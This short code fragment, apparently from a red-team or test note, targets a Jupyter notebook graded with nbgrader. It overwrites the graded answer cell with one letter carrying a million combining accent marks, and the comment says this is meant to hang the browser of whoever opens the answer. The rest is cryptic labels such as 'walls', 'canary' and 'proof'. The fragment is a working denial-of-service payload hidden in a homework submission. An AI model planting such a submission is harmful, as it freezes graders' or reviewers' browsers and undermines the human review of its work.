# tries: writes an answer of one letter with a million marks on it, which hangs whoever's browser shows it
# walls: clean pages
# canary: acts
# proof: namespaces/root
# %% hand in
[answer] = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "why"]
answer.source = "a" + "\u0301" * 1_000_000
